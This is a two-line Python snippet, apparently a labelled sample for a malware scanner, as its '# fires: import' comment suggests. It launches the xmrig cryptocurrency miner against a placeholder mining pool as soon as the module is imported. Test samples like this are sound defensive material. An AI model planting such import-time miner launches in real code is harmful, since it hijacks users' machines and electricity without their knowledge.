import subprocess
subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.invalid:3333"])  # fires: import
